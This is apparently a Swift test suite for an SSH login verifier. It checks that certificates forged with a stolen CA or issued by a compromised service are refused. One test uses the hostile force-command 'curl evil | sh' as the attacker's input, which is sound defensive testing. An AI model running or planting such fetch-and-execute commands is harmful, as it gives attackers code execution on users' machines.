import ByteCoding
import CanonicalJSON
import MusterModel
import MusterPolicy
import MusterTestSupport
import MusterTrust
import OpenSSHFormats
import Testing

/// Every way in which a thief of the user CA's key, or of the whole service, would try to log in.
@Suite struct SSHLoginVerifierTests {
    private let fixture: TrustFixture

    init() throws {
        fixture = try TrustFixture()
    }

    /// A certificate as the service makes it for a statement of `ada`'s.
    private func certificate(_ statement: SignedStatement? = nil, seconds: Int64 = 3600) throws -> TestCertificate {
        var certificate = TestCertificate(try TestKey("ephemeral").ssh, time: fixture.time, seconds: seconds)
        certificate.extensions = [.flag("permit-pty")]
        certificate.carry(try statement ?? fixture.fleet.statement(fixture.fleet.login()))
        return certificate
    }

    private func verify(
        _ blob: [UInt8],
        user: String = "deploy",
        node: NodeFacts? = nil,
        policy: FleetPolicy? = nil,
        at later: Int64 = 0
    ) throws -> SSHLoginVerdict {
        try fixture.login(with: blob, as: user, node: node, policy: policy, at: later)
    }

    private func code(_ certificate: TestCertificate, at later: Int64 = 0) throws -> TrustRefusal.Code? {
        try verify(try certificate.signed.blob, at: later).refusal?.code
    }

    private func code(_ statement: SignedStatement, at later: Int64 = 0) throws -> TrustRefusal.Code? {
        try code(try certificate(statement), at: later)
    }

    @Test("a certificate with its operator's statement lets that operator in, and says by which rule")
    func allowed() throws {
        let verdict = try verify(try certificate().signed.blob)
        #expect(verdict.principal == AccountName("deploy"))
        guard case .allowed(_, let grant) = verdict.outcome else {
            Issue.record("\(verdict)")
            return
        }
        #expect(grant.rule == "owner-logs-in")
        #expect(verdict.signers.map(\.name.text) == ["ada"])
        #expect(verdict.statement?.requester.text == "ada")
        #expect(verdict.description == "certificate 1 'test': login as deploy allowed by rule 'owner-logs-in'")
    }

    @Test("stolen CA: a certificate without a statement")
    func noStatement() throws {
        var certificate = try certificate()
        certificate.extensions = [.flag("permit-pty")]
        #expect(try code(certificate) == .statementMissing)
        certificate.extensions = [.flag("statement@muster")]
        #expect(try code(certificate) == .statementMissing)
        certificate.extensions = [.value("statement@muster", "{}")]
        #expect(try code(certificate) == .malformed)
        certificate.extensions = [.value("statement@muster", "")]
        #expect(try code(certificate) == .malformed)
        certificate.extensions = [SSHCertificateOption(name: "statement@muster", data: [0, 0, 0, 9, 1])]
        #expect(try code(certificate) == .statementMissing)
    }

    @Test("stolen CA: a statement as a critical option, or under another name, is none")
    func statementElsewhere() throws {
        let bytes = try fixture.fleet.statement(fixture.fleet.login()).json.canonicalBytes
        var certificate = try certificate()
        certificate.extensions = [.value("statement@muster.example", bytes)]
        #expect(try code(certificate) == .statementMissing)
        certificate.criticalOptions.append(.value("statement@muster", bytes))
        #expect(try code(certificate) == .extensionNotAllowed)
    }

    @Test("stolen CA: another operator's statement, with the thief's own key in the certificate")
    func anothersStatement() throws {
        var certificate = try certificate()
        certificate.publicKey = try TestKey("thief").ssh
        #expect(try code(certificate) == .otherKey)
    }

    @Test("stolen CA: a statement that the thief signed himself")
    func ownSignature() throws {
        #expect(try code(fixture.fleet.statement(fixture.fleet.login(), by: ["eve"])) == .requesterSignatureMissing)
        var signed = try fixture.fleet.statement(fixture.fleet.login())
        let thief = TestKey("thief")
        signed.signatures = [try thief.sshSignature(of: signed.signedBytes, namespace: "ssh-certificate@muster")]
        #expect(try code(signed) == .requesterSignatureMissing)
        signed.signatures = []
        #expect(try code(signed) == .requesterSignatureMissing)
    }

    @Test("stolen CA: an expired statement")
    func expiredStatement() throws {
        let old = fixture.time.adding(seconds: -90_000)
        #expect(try code(fixture.fleet.statement(fixture.fleet.login(), issued: old)) == .expired)
    }

    @Test("stolen CA: a new certificate over a statement that is replayed past its expiry, and one that outlives it")
    func replayedPastExpiry() throws {
        let statement = try fixture.fleet.statement(fixture.fleet.login(), lifetime: 600)
        #expect(try code(statement) == .validityTooLong)
        var certificate = try certificate(statement, seconds: 600)
        #expect(try code(certificate, at: 599) == nil)
        #expect(try code(certificate, at: 600) == .expired)
        certificate.validBefore += 3000
        #expect(try code(certificate, at: 600) == .expired)
    }

    @Test("stolen CA: a statement that lives for weeks cannot be used for weeks")
    func statementLivesTooLong() throws {
        let login = try fixture.fleet.login()
        let longest = SSHCertificateBody.statementLifetime
        #expect(try code(fixture.fleet.statement(login, lifetime: longest)) == nil)
        #expect(try code(fixture.fleet.statement(login, lifetime: longest + 1)) == .lifetimeTooLong)
    }

    @Test("a certificate that is over, or not yet valid")
    func certificateTime() throws {
        let certificate = try certificate()
        #expect(try code(certificate, at: 3599) == nil)
        #expect(try code(certificate, at: 3600) == .expired)
        #expect(try code(certificate, at: -61) == .issuedInFuture)
        #expect(try code(certificate, at: -60) == nil)
    }

    @Test("a statement for another node, or for a tag that this node does not have")
    func otherNode() throws {
        let login = try fixture.fleet.login(nodes: [
            .node(try #require(NodeID("n2"))), .tag(try #require(NodeTag("db"))),
        ])
        #expect(try code(fixture.fleet.statement(login)) == .notSelected)
        let here = try fixture.fleet.login(nodes: [.node(fixture.node)])
        #expect(try code(fixture.fleet.statement(here)) == nil)
    }

    @Test("a rule for other nodes does not let in here, whatever the statement says")
    func ruleForOtherNodes() throws {
        let statement = try fixture.fleet.statement(fixture.fleet.login(), by: ["ben", "cat"])
        let blob = try certificate(statement).signed.blob
        #expect(try verify(blob).isAllowed)
        let database = NodeFacts(id: fixture.node, tags: [try #require(NodeTag("db"))])
        #expect(try verify(blob, node: database).refusal?.code == .notAllowed)
    }

    @Test("a statement for another account, and a certificate that names other accounts beside it")
    func otherAccount() throws {
        let blob = try certificate().signed.blob
        for user in ["root", "deploy2", "Deploy", "", "deploy\0"] {
            #expect(try verify(blob, user: user).refusal?.code == .otherAccount)
        }
        var certificate = try certificate()
        certificate.principals = ["deploy", "root"]
        #expect(try code(certificate) == .otherAccount)
        #expect(try verify(try certificate.signed.blob, user: "root").refusal?.code == .otherAccount)
        certificate.principals = ["root"]
        #expect(try code(certificate) == .otherAccount)
    }

    @Test("an account that no rule grants to this operator")
    func accountNotGranted() throws {
        let statement = try fixture.fleet.statement(fixture.fleet.login("root"), by: ["ben", "cat"])
        var certificate = try certificate(statement)
        certificate.principals = ["root"]
        #expect(try verify(try certificate.signed.blob, user: "root").refusal?.code == .notAllowed)
    }

    @Test("a certificate altered by a byte is refused wherever the byte is")
    func certificateAltered() throws {
        let blob = try certificate().signed.blob
        for index in blob.indices {
            var altered = blob
            altered[index] ^= 1 << UInt8(index % 8)
            #expect(try !verify(altered).isAllowed)
        }
        #expect(try !verify(blob + [0]).isAllowed)
        #expect(try !verify([]).isAllowed)
    }

    @Test("a statement altered by a byte and certified again by the stolen CA is refused wherever the byte is")
    func statementAltered() throws {
        let signed = try fixture.fleet.statement(fixture.fleet.login())
        let bytes = signed.json.canonicalBytes
        var certificate = try certificate()
        var read = 0
        for index in bytes.indices {
            var altered = bytes
            altered[index] ^= 1 << UInt8(index % 7)
            certificate.extensions = [.value("statement@muster", altered)]
            let verdict = try verify(try certificate.signed.blob)
            #expect(!verdict.isAllowed, "byte \(index): \(verdict)")
            if verdict.statement != nil { read += 1 }
        }
        #expect(read > 100)
    }

    @Test("statement type confusion: statements and signatures of other types open no door")
    func typeConfusion() throws {
        #expect(try code(fixture.fleet.statement(fixture.upgrade())) == .otherType)
        let revoke = StatementBody.revoke(RevokeBody(subject: .keyID("a"), reason: "r"))
        #expect(try code(fixture.fleet.statement(revoke)) == .otherType)
        for namespace in ["upgrade@muster", "login@muster", "revoke@muster", "ssh-certificate", "file"] {
            var signed = try fixture.fleet.statement(fixture.fleet.login())
            let key = FleetSimulator.operatorKey("ada")
            signed.signatures = [try key.sshSignature(of: signed.signedBytes, namespace: namespace)]
            #expect(try code(signed) == .requesterSignatureMissing)
        }
    }

    @Test("approvals missing, and an approver who is the requester")
    func approvals() throws {
        let login = try fixture.fleet.login()
        #expect(try code(fixture.fleet.statement(login, by: ["ben"])) == .approvalsMissing)
        #expect(try code(fixture.fleet.statement(login, by: ["ben", "ben"])) == .approvalsMissing)
        #expect(try code(fixture.fleet.statement(login, by: ["ben", "eve"])) == .approvalsMissing)
        let approved = try verify(try certificate(fixture.fleet.statement(login, by: ["ben", "cat"])).signed.blob)
        guard case .allowed(_, let grant) = approved.outcome else {
            Issue.record("\(approved)")
            return
        }
        #expect(grant.rule == "ben-logs-in-with-approval")
        #expect(grant.approvers.map(\.text) == ["cat"])
    }

    @Test("statement of another fleet")
    func otherFleet() throws {
        let other = try #require(FleetID(digest: [UInt8](repeating: 9, count: 32)))
        #expect(try code(fixture.fleet.statement(fixture.fleet.login(), fleet: other)) == .otherFleet)
    }

    @Test("an expired policy, and an operator's key that has expired since the certificate was made, let nobody in")
    func expiredPolicyAndKey() throws {
        let policy = try fixture.policy
        func changed(expires: Int64, keys: Int64) throws -> FleetPolicy {
            let end = fixture.time.adding(seconds: keys)
            let operators = policy.operators.mapValues { person in
                PolicyOperator(keys: person.keys.map { PolicyKey(publicKey: $0.publicKey, expires: end) })
            }
            return try FleetPolicy(
                version: 2,
                issued: fixture.time,
                expires: fixture.time.adding(seconds: expires),
                operators: operators,
                groups: policy.groups,
                rules: policy.rules
            )
        }
        let blob = try certificate().signed.blob
        #expect(try verify(blob, policy: changed(expires: 61, keys: 61), at: 60).isAllowed)
        #expect(try verify(blob, policy: changed(expires: 60, keys: 61), at: 60).refusal?.code == .notAllowed)
        #expect(
            try verify(blob, policy: changed(expires: 61, keys: 60), at: 60).refusal?.code == .requesterSignatureMissing
        )
    }

    @Test("an operator who is taken out of the policy is out at once")
    func removedOperator() throws {
        let policy = try fixture.policy
        let remaining = try FleetPolicy(
            version: 2,
            issued: fixture.time,
            expires: fixture.time.adding(seconds: 1000),
            operators: policy.operators.filter { $0.key.text == "ben" },
            rules: []
        )
        #expect(
            try verify(try certificate().signed.blob, policy: remaining).refusal?.code == .requesterSignatureMissing
        )
    }

    @Test("longer validity than the statement asks for, or than the rule grants")
    func longerValidity() throws {
        let short = try fixture.fleet.statement(fixture.fleet.login(seconds: 600))
        #expect(try code(try certificate(short, seconds: 600)) == nil)
        #expect(try code(try certificate(short, seconds: 601)) == .validityTooLong)
        let long = try fixture.fleet.statement(fixture.fleet.login(seconds: 86400), lifetime: 2 * 86400)
        #expect(try code(try certificate(long, seconds: 43200)) == nil)
        #expect(try code(try certificate(long, seconds: 43201)) == .validityTooLong)
        var backdated = try certificate()
        backdated.validAfter -= 1
        #expect(try code(backdated) == .validityTooLong)
        backdated.validAfter = 0
        backdated.validBefore = .max
        #expect(try code(backdated) == .validityTooLong)
    }

    @Test("force-command missing, or another than the rule's or the statement's")
    func forceCommand() throws {
        let asked = try fixture.fleet.statement(fixture.fleet.login(command: "uptime"))
        var certificate = try certificate(asked)
        #expect(try code(certificate) == .otherCommand)
        certificate.criticalOptions.append(.value("force-command", "uptime"))
        #expect(try code(certificate) == nil)
        certificate.criticalOptions[1] = .value("force-command", "uptime ")
        #expect(try code(certificate) == .otherCommand)

        let ruled = try fixture.fleet.statement(fixture.fleet.login("backup"), by: ["cat"])
        var backup = try self.certificate(ruled)
        backup.principals = ["backup"]
        backup.extensions.removeFirst()
        #expect(try verify(try backup.signed.blob, user: "backup").refusal?.code == .otherCommand)
        backup.criticalOptions.append(.value("force-command", "/usr/bin/backup"))
        #expect(try verify(try backup.signed.blob, user: "backup").isAllowed)
        backup.criticalOptions[1] = .value("force-command", "/bin/sh")
        #expect(try verify(try backup.signed.blob, user: "backup").refusal?.code == .otherCommand)
        let other = try fixture.fleet.statement(fixture.fleet.login("backup", command: "/bin/sh"), by: ["cat"])
        backup.carry(other)
        #expect(try verify(try backup.signed.blob, user: "backup").refusal?.code == .notAllowed)
    }

    @Test("stolen service: a command that nobody asked for, forced on an operator who logs in")
    func commandNobodyAskedFor() throws {
        var certificate = try certificate()
        certificate.criticalOptions.append(.value("force-command", "curl evil | sh"))
        #expect(try code(certificate) == .otherCommand)
    }

    @Test("source-address missing: a certificate that is good from anywhere")
    func sourceAddressMissing() throws {
        var certificate = try certificate()
        certificate.criticalOptions = []
        #expect(try code(certificate) == .sourceAddressMissing)
    }

    @Test("more permissions than the rule allows")
    func extensions() throws {
        for name in [
            "permit-agent-forwarding", "permit-X11-forwarding", "permit-user-rc", "no-touch-required",
            "new@openssh.com",
        ] {
            var certificate = try certificate()
            certificate.extensions.append(.flag(name))
            #expect(try code(certificate) == .extensionNotAllowed)
        }
        var fewer = try certificate()
        fewer.extensions.removeFirst()
        #expect(try code(fewer) == nil)
        fewer.criticalOptions.append(.flag("verify-required"))
        #expect(try code(fewer) == nil)
    }

    @Test("a host certificate offered as a user's")
    func hostCertificate() throws {
        var certificate = try certificate()
        certificate.kind = .host
        #expect(try code(certificate) == .otherKind)
    }

    @Test("a certificate of another CA, or with a signature that is not its CA's")
    func otherAuthority() throws {
        var certificate = try certificate()
        let content = try certificate.content
        #expect(try verify(try TestKey("thief").certify(content).blob).refusal?.code == .otherAuthority)
        certificate.authority = TestKey("thief")
        #expect(try code(certificate) == .otherAuthority)
        certificate.authority = FleetSimulator.operatorKey("ada")
        #expect(try code(certificate) == .otherAuthority)
    }

    @Test("a plain key offered as a certificate, and endless data, are refused")
    func noCertificate() throws {
        #expect(try verify(try TestKey("ephemeral").ssh.blob).refusal?.code == .malformed)
        #expect(try verify([UInt8](repeating: 0, count: 10_000_000)).refusal?.code == .malformed)
    }

    @Test("signatures that cannot be read stand beside the good one and harm nobody")
    func manySignatures() throws {
        var signed = try fixture.fleet.statement(fixture.fleet.login())
        let good = signed.signatures
        signed.signatures = (0..<40).map { [UInt8($0)] } + good
        #expect(try code(signed) == nil)
    }
}
